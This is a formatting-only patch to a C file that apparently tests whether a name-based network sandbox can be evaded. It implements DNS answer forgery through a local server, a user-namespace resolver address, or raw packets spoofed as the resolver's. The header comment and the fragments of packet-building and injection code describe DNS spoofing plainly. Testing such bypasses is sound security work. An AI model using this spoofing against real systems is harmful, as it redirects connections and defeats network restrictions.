@@ -1,9 +1,10 @@
 /* SPDX-License-Identifier: GPL-2.0-only */
 /*
- * Forged answers: make the kernel believe that an allowed name lives at the attacker's address, then connect there.
- *   local LISTEN NAME ADDR PORT TEXT       a DNS server of the job's own on a loopback address
- *   namespace RESOLVER NAME ADDR PORT TEXT the resolver's very address, on `lo` of a user namespace (needs no root)
- *   raw RESOLVER NAME ADDR PORT TEXT       a packet that says it comes from the resolver, sent over `lo`
+ * Forged answers: make the kernel believe that an allowed name lives at the attacker's address,
+ * then connect there. local LISTEN NAME ADDR PORT TEXT       a DNS server of the job's own on a
+ * loopback address namespace RESOLVER NAME ADDR PORT TEXT the resolver's very address, on `lo` of a
+ * user namespace (needs no root) raw RESOLVER NAME ADDR PORT TEXT       a packet that says it comes
+ * from the resolver, sent over `lo`
  */
 #include "dns.h"
 
@@ -19,7 +20,8 @@ static void serve(int fd, const char *address)
 {
 	struct message m;
 	struct endpoint from = { .length = sizeof(from.address) };
-	ssize_t n = recvfrom(fd, m.bytes, sizeof(m.bytes), 0, (struct sockaddr *)&from.address, &from.length);
+	ssize_t n = recvfrom(fd, m.bytes, sizeof(m.bytes), 0, (struct sockaddr *)&from.address,
+			     &from.length);
 
 	if (n < 0)
 		refused("recvfrom");
@@ -96,7 +98,8 @@ static void inject(char **a)
 
 	dns_header(&m, 0x4243, 0x0100, 1);
 	dns_question(&m, a[1], 1);
-	if (connect(client, sockaddr(&resolver), resolver.length) || send(client, m.bytes, m.length, 0) < 0)
+	if (connect(client, sockaddr(&resolver), resolver.length) ||
+	    send(client, m.bytes, m.length, 0) < 0)
 		refused("send");
 	getsockname(client, (struct sockaddr *)&self, &length);
 	dns_answer(&m, a[2]);
@@ -107,7 +110,8 @@ static void inject(char **a)
 	memcpy(packet, &ip, sizeof(ip));
 	memcpy(packet + sizeof(ip), &udp, sizeof(udp));
 	memcpy(packet + sizeof(ip) + sizeof(udp), m.bytes, m.length);
-	if (sendto(raw, packet, sizeof(ip) + sizeof(udp) + m.length, 0, (struct sockaddr *)&self, length) < 0)
+	if (sendto(raw, packet, sizeof(ip) + sizeof(udp) + m.length, 0, (struct sockaddr *)&self,
+		   length) < 0)
 		perror("sendto");
 	if (recv(client, m.bytes, sizeof(m.bytes), 0) < 0)
 		perror("recv");
